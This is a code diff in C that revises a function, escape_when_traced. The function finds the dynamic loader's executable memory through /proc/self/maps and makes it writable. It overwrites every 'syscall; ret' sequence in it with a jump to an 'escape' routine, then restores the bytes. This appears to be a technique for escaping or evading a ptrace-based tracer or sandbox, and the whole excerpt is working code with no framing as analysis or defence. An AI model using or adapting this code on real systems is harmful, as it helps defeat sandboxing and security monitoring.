@@ -732,24 +732,28 @@ __asm__(".text\n"
 extern const char escape[];
 
 static void *escape_when_traced(void *data) {
-    unsigned char jump[12] = {0x48, 0xb8, [10] = 0xff, 0xe0}, saved[12], *found = NULL;
+    unsigned char jump[12] = {0x48, 0xb8, [10] = 0xff, 0xe0}, *text = NULL, *saved;
     uint64_t target = (uint64_t)escape;
     char line[512], permissions[8];
     unsigned long start, end;
+    size_t bytes = 0;
     FILE *maps = fopen("/proc/self/maps", "r");
-    while (fgets(line, sizeof line, maps) != NULL)
+    while (fgets(line, sizeof line, maps) != NULL && text == NULL)
         if (sscanf(line, "%lx-%lx %7s", &start, &end, permissions) == 3 &&
-            strstr(line, "/ld-linux") != NULL && strcmp(permissions, "r-xp") == 0 && found == NULL)
-            found = memmem((void *)start, end - start, "\x0f\x05\xc3", 3);
+            strstr(line, "/ld-linux") != NULL && strcmp(permissions, "r-xp") == 0) {
+            text = (unsigned char *)start;
+            bytes = end - start;
+        }
     fclose(maps);
     memcpy(jump + 2, &target, sizeof target);
-    memcpy(saved, found, sizeof saved);
-    void *page = (void *)((uintptr_t)found & -4096UL);
+    saved = malloc(bytes);
+    memcpy(saved, text, bytes);
     await_frame();
-    mprotect(page, 8192, PROT_READ | PROT_WRITE | PROT_EXEC);
-    memcpy(found, jump, sizeof jump);
+    mprotect(text, bytes, PROT_READ | PROT_WRITE | PROT_EXEC);
+    for (unsigned char *at = text; (at = memmem(at, text + bytes - at, "\x0f\x05\xc3", 3)) != NULL; at += 3)
+        memcpy(at, jump, sizeof jump); /* hugeld uses one of them */
     usleep(300000);
-    memcpy(found, saved, sizeof saved);
+    memcpy(text, saved, bytes);
     return data;
 }
 
